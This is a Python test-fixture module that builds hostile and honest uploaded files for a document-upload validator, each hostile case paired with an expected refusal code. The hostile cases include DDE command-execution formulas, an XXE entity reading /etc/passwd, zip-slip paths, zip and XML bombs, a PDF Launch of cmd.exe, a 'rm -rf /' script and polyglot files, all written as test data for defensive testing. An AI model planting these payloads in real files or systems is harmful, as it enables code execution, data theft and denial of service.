"""Files that somebody might send: honest ones, and a corpus of hostile ones, made here."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image

TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n@\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)


def pdf(extra=b""):
    return PDF.replace(b"@", extra)


def packed(objects, *, filter_name=b"/FlateDecode"):
    body = zlib.compress(objects)
    return pdf(
        b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter%s/Length %d>>stream\n%s\nendstream endobj"
        % (filter_name, len(body), body)
    )


def package(members, *, comment=b""):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(name, content)
        made.comment = comment
    return stream.getvalue()


def paragraph(text):
    words = f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
    return f'<w:document xmlns:w="{W}"><w:body>{words}</w:body></w:document>'


def docx(text="本季整治 12 个村", **more):
    parts = {"[Content_Types].xml": TYPES, "word/document.xml": paragraph(text)}
    return package(parts | {name.replace("__", "/"): one for name, one in more.items()})


def docx_with(members, *, text="本季整治 12 个村"):
    return package({"[Content_Types].xml": TYPES, "word/document.xml": paragraph(text), **members})


def xlsx_with(members, *, sheet="<worksheet><sheetData/></worksheet>"):
    return package(
        {
            "[Content_Types].xml": TYPES,
            "xl/workbook.xml": "<workbook/>",
            "xl/worksheets/sheet1.xml": sheet,
            **members,
        }
    )


def relation(kind, target):
    return (
        f'<Relationships><Relationship Id="r1" Type="{REL}/{kind}" Target="{target}" '
        f'TargetMode="External"/></Relationships>'
    )


def picture(kind="JPEG", *, size=(64, 48), **more):
    stream = io.BytesIO()
    Image.new("RGB", size, (10, 120, 60)).save(stream, format=kind, **more)
    return stream.getvalue()


def photograph():
    """A photograph that tells where it was taken."""
    exif = Image.Exif()
    exif[0x010F] = "KANARIE-CAMERA"
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (37.0, 30.0, 15.0)
    return picture(exif=exif)


def giant_png(width=50_000, height=50_000):
    def chunk(kind, data):
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    body = zlib.compress(b"\0" * 1_000_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def linked():
    """A package with a symbolic link in it."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as made:
        made.writestr("[Content_Types].xml", TYPES)
        made.writestr("word/document.xml", paragraph("x"))
        info = zipfile.ZipInfo("word/link.xml")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        made.writestr(info, "/etc/passwd")
    return stream.getvalue()


def locked_up():
    """A package whose members say that they are encrypted."""
    content = bytearray(docx())
    place = content.find(b"PK\x01\x02")
    while place >= 0:
        content[place + 8] |= 1
        place = content.find(b"PK\x01\x02", place + 4)
    return bytes(content)


def lying():
    """A member that is far longer than it says."""
    content = bytearray(docx_with({"word/x.xml": "a" * 3_000_000}))
    place = content.rfind(b"PK\x01\x02")
    content[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(content)


LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>'
)
XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2_000

#: Name of the case: name of the file, its bytes, the code of the refusal.
HOSTILE = {
    "nothing": ("a.pdf", b"", "empty-file"),
    "too long": ("a.pdf", b"%PDF-" + b"0" * (20 * 1024 * 1024), "file-too-big"),
    "program": ("a.pdf", b"MZ" + b"\0" * 500, "kind-unknown"),
    "elf": ("a.png", b"\x7fELF" + b"\0" * 500, "kind-unknown"),
    "svg with script": ("a.svg", b"<svg><script>alert(1)</script></svg>", "kind-unknown"),
    "svg as png": ("a.png", b"<svg onload='alert(1)'/>", "kind-unknown"),
    "page": ("a.html", b"<html><script>alert(1)</script></html>", "kind-unknown"),
    "page as pdf": ("a.pdf", b"<html>%PDF-1.4 %%EOF</html>", "kind-unknown"),
    "shell": ("a.sh", b"#!/bin/sh\nrm -rf /\n", "kind-unknown"),
    "rar": ("a.rar", b"Rar!\x1a\x07\x00" + b"\0" * 99, "kind-unknown"),
    "seven": ("a.7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 99, "kind-unknown"),
    "gzip": ("a.gz", b"\x1f\x8b\x08" + b"\0" * 99, "kind-unknown"),
    "tar": ("a.tar", b"a\0" * 400, "kind-unknown"),
    "plain zip": ("a.zip", package({"a.txt": "x"}), "archive"),
    "zip as docx": ("a.docx", package({"a.txt": "x"}), "archive"),
    "jar": ("a.jar", package({"META-INF/MANIFEST.MF": "x"}), "archive"),
    "nested zip": ("a.zip", package({"b.zip": package({"c.txt": "x"})}), "archive"),
    "old doc": ("a.doc", OLE, "old-office"),
    "old xls": ("a.xls", OLE, "old-office"),
    "old wps": ("a.wps", OLE, "old-office"),
    "encrypted docx": ("a.docx", OLE, "old-office"),
    "pdf as jpg": ("a.jpg", pdf(), "wrong-ending"),
    "jpg as pdf": ("a.pdf", picture(), "wrong-ending"),
    "docx as xlsx": ("a.xlsx", docx(), "wrong-ending"),
    "png as jpg": ("a.jpg", picture("PNG"), "wrong-ending"),
    "docm": ("a.docm", docx(), "wrong-ending"),
    "no ending": ("a", pdf(), "bad-name"),
    "only an ending": (".pdf", pdf(), "bad-name"),
    "two endings": ("报表.exe.pdf", pdf(), "bad-name"),
    "turned round": ("报表\u202efdp.exe.pdf", pdf(), "bad-name"),
    "secret by name": ("机密-统计表.pdf", pdf(), "secret"),
    "top secret by name": ("绝密.pdf", pdf(), "secret"),
    "macro docx": (
        "a.docx",
        docx_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "active-content",
    ),
    "macro xlsx": ("a.xlsx", xlsx_with({"xl/vbaProject.bin": b"x"}), "active-content"),
    "macro type": (
        "a.docx",
        package(
            {
                "[Content_Types].xml": "<Types>vnd.ms-word.document.macroEnabled</Types>",
                "word/document.xml": paragraph("x"),
            }
        ),
        "active-content",
    ),
    "old macro sheet": (
        "a.xlsx",
        xlsx_with({"xl/macrosheets/1.xml": "<x/>"}),
        "active-content",
    ),
    "pdf of beginnings": (
        "a.pdf",
        pdf(b"stream\n" * 200_000 + b"/JS"),
        "pdf-active",
    ),
    "pdf of objects without end": ("a.pdf", pdf(b"/ObjStm stream\n" * 100_000), "bomb"),
    "tags without end": ("a.docx", docx_with({"word/x.xml": "<" * 30_000}), "package-broken"),
    "relations without end": (
        "a.docx",
        docx_with({"word/_rels/x.rels": "<Relationship \n" * 9_000 + "é" * 999}),
        "package-broken",
    ),
    "prefixed relation": (
        "a.docx",
        docx_with(
            {
                "word/_rels/document.xml.rels": relation("attachedTemplate", "http://a.example/")
                .replace("<Relationship ", "<p:Relationship ")
                .replace("<Relationships>", "<Relationships xmlns:p='x'>")
            }
        ),
        "active-content",
    ),
    "relation behind a bracket": (
        "a.docx",
        docx_with({"word/_rels/document.xml.rels": relation("frame", "http://a.example/?>")}),
        "active-content",
    ),
    "formula in a section": (
        "a.xlsx",
        xlsx_with({}, sheet="<worksheet><f><![CDATA[cmd|' /c calc'!A0]]></f></worksheet>"),
        "active-content",
    ),
    "formula with escapes": (
        "a.xlsx",
        xlsx_with({}, sheet="<x:worksheet xmlns:x='x'><x:f>cmd&#124;'c'!A0</x:f></x:worksheet>"),
        "active-content",
    ),
    "field with escapes": (
        "a.docx",
        docx("&#68;DEAUTO c:\\\\windows"),
        "active-content",
    ),
    "embedded object": (
        "a.docx",
        docx_with({"word/embeddings/oleObject1.bin": OLE}),
        "active-content",
    ),
    "embedded workbook": (
        "a.docx",
        docx_with({"word/embeddings/a.xlsx": xlsx_with({})}),
        "active-content",
    ),
    "activex": ("a.docx", docx_with({"word/activeX/activeX1.xml": "<x/>"}), "active-content"),
    "program inside": ("a.docx", docx_with({"word/media/a.exe": b"MZ"}), "active-content"),
    "program as picture": ("a.docx", docx_with({"word/media/a.png": b"MZ\0\0"}), "active-content"),
    "zip inside": (
        "a.docx",
        docx_with({"word/media/a.png": package({"x": "y"})}),
        "active-content",
    ),
    "page inside": ("a.docx", docx_with({"word/afchunk.html": "<script/>"}), "active-content"),
    "outside template": (
        "a.docx",
        docx_with(
            {"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://x.cn/t.dotm")}
        ),
        "active-content",
    ),
    "outside object": (
        "a.docx",
        docx_with({"word/_rels/document.xml.rels": relation("oleObject", "mhtml:http://x.cn!x")}),
        "active-content",
    ),
    "outside picture": (
        "a.docx",
        docx_with({"word/_rels/document.xml.rels": relation("image", "http://x.cn/a.png")}),
        "active-content",
    ),
    "link to a file": (
        "a.docx",
        docx_with({"word/_rels/document.xml.rels": relation("hyperlink", "file://x/y")}),
        "active-content",
    ),
    "link with script": (
        "a.docx",
        docx_with({"word/_rels/document.xml.rels": relation("hyperlink", "javascript:alert(1)")}),
        "active-content",
    ),
    "outside workbook": (
        "a.xlsx",
        xlsx_with({"xl/externalLinks/externalLink1.xml": "<x/>"}),
        "active-content",
    ),
    "dde field": (
        "a.docx",
        docx_with({}, text='DDEAUTO c:\\\\cmd.exe "/k calc"'),
        "active-content",
    ),
    "dde formula": (
        "a.xlsx",
        xlsx_with({}, sheet="<worksheet><c><f t=''>cmd|' /C calc'!A0</f></c></worksheet>"),
        "active-content",
    ),
    "webservice": (
        "a.xlsx",
        xlsx_with({}, sheet='<worksheet><c><f a="">WEBSERVICE("http://x")</f></c></worksheet>'),
        "active-content",
    ),
    "xxe": ("a.docx", docx_with({"word/a.xml": XXE}), "active-content"),
    "xxe in utf-16": ("a.docx", docx_with({"word/a.xml": XXE.encode("utf-16")}), "active-content"),
    "billion laughs": ("a.xlsx", xlsx_with({"xl/a.xml": LAUGHS}), "active-content"),
    "zip bomb": ("a.docx", docx_with({"word/a.xml": "0" * 50_000_000}), "bomb"),
    "many members": (
        "a.docx",
        docx_with({f"word/{number}.xml": "" for number in range(2_100)}),
        "bomb",
    ),
    "lying size": ("a.docx", lying(), "package-broken"),
    "slip": ("a.docx", docx_with({"../../etc/cron.d/x": "x"}), "bad-member"),
    "slip of windows": ("a.docx", docx_with({"..\\x.xml": "x"}), "bad-member"),
    "absolute": ("a.docx", docx_with({"/etc/x.xml": "x"}), "bad-member"),
    "drive": ("a.docx", docx_with({"C:/x.xml": "x"}), "bad-member"),
    "link": ("a.docx", linked(), "bad-member"),
    "locked": ("a.docx", locked_up(), "encrypted"),
    "page before docx": ("a.docx", b"PK\x03\x04<script>" + docx(), "polyglot"),
    "more behind docx": ("a.docx", docx() + b"<script>", "polyglot"),
    "comment of zip": (
        "a.docx",
        package({"word/document.xml": paragraph("x")}, comment=b"<?php evil ?>"),
        "polyglot",
    ),
    "cut docx": ("a.docx", docx()[:200], "package-broken"),
    "secret docx": ("a.docx", docx("机密★5年"), "secret"),
    "secret alone": ("a.docx", docx("秘密"), "secret"),
    "level of secrecy": ("a.docx", docx("密级：机密"), "secret"),
    "secret split": ("a.docx", docx("机</w:t></w:r><w:r><w:t>密★"), "secret"),
    "secret xlsx": (
        "a.xlsx",
        xlsx_with({"xl/sharedStrings.xml": "<sst><si><t>绝密★</t></si></sst>"}),
        "secret",
    ),
    "secret ofd": (
        "a.ofd",
        package({"OFD.xml": "<x/>", "Doc_0/a.xml": "<x>秘密★1年</x>"}),
        "secret",
    ),
    "script in pdf": (
        "a.pdf",
        pdf(b"3 0 obj<</S/JavaScript/JS(alert(1))>>endobj"),
        "pdf-active",
    ),
    "escaped script": ("a.pdf", pdf(b"3 0 obj<</S/J#61vaScript/J#53(x)>>endobj"), "pdf-active"),
    "packed script": ("a.pdf", packed(b"3 0 <</S/JavaScript/JS(x)>>"), "pdf-active"),
    "strangely packed": ("a.pdf", packed(b"x", filter_name=b"/LZWDecode")[:-20] + b"\n%%EOF\n", ""),
    "launch": ("a.pdf", pdf(b"3 0 obj<</S/Launch/F(cmd.exe)>>endobj"), "pdf-active"),
    "attachment": ("a.pdf", pdf(b"3 0 obj<</EmbeddedFiles 4 0 R>>endobj"), "pdf-active"),
    "xfa": ("a.pdf", pdf(b"3 0 obj<</AcroForm<</XFA 4 0 R>>>>endobj"), "pdf-active"),
    "submit": ("a.pdf", pdf(b"3 0 obj<</S/SubmitForm/F(http://x)>>endobj"), "pdf-active"),
    "flash": ("a.pdf", pdf(b"3 0 obj<</Subtype/RichMedia>>endobj"), "pdf-active"),
    "locked pdf": ("a.pdf", pdf(b"3 0 obj<</Encrypt 4 0 R>>endobj"), "pdf-active"),
    "bomb in pdf": ("a.pdf", packed(b"0" * 40_000_000), "bomb"),
    "secret pdf": ("a.pdf", pdf("3 0 obj(机密★3年)endobj".encode()), "secret"),
    "secret pdf in hex": (
        "a.pdf",
        pdf(b"3 0 obj<FEFF%s>endobj" % "绝密★".encode("utf-16-be").hex().upper().encode()),
        "secret",
    ),
    "pdf and zip": ("a.pdf", pdf() + package({"x": "y"}), "pdf-broken"),
    "zip in pdf": ("a.pdf", pdf(package({"x": "y"})), "polyglot"),
    "pdf and page": ("a.pdf", b"%PDF-1.4<html><script>x</script>" + pdf(), "polyglot"),
    "cut pdf": ("a.pdf", pdf()[:60], "pdf-broken"),
    "giant png": ("a.png", giant_png(), "picture-too-big"),
    "long png": ("a.png", giant_png(30_000, 10), "picture-too-big"),
    "cut png": ("a.png", picture("PNG")[:60], "picture-broken"),
    "cut jpeg": ("a.jpg", picture()[:200], "picture-broken"),
    "head of jpeg only": ("a.jpg", b"\xff\xd8\xff\xe0<script>", "picture-broken"),
}
HOSTILE["strangely packed"] = (
    "a.pdf",
    pdf(b"5 0 obj<</Type/ObjStm/N 1/Filter/LZWDecode>>stream\n\x80\x0b\x60\nendstream endobj"),
    "pdf-active",
)

HONEST = {
    "pdf": ("花名册.pdf", pdf()),
    "docx": ("台账.docx", docx("商业秘密和国家秘密不得外传，本表不含秘密事项。")),
    "docx with a link": (
        "台账.docx",
        docx_with({"word/_rels/document.xml.rels": relation("hyperlink", "https://x.gov.cn/")}),
    ),
    "xlsx": (
        "汇总.xlsx",
        xlsx_with(
            {"xl/printerSettings/printerSettings1.bin": b"\0\1"},
            sheet='<worksheet><c><f a="">SUM(A1:A3)</f></c></worksheet>',
        ),
    ),
    "ofd": ("公函.ofd", package({"OFD.xml": "<x/>", "Doc_0/Document.xml": "<x/>"})),
    "jpeg": ("现场.JPG", photograph()),
    "png": ("截图.png", picture("PNG")),
    "trade secrets": ("商业秘密保护制度.pdf", pdf()),
    "path": ("C:\\Users\\某人\\桌面\\花名册.pdf", pdf()),
}
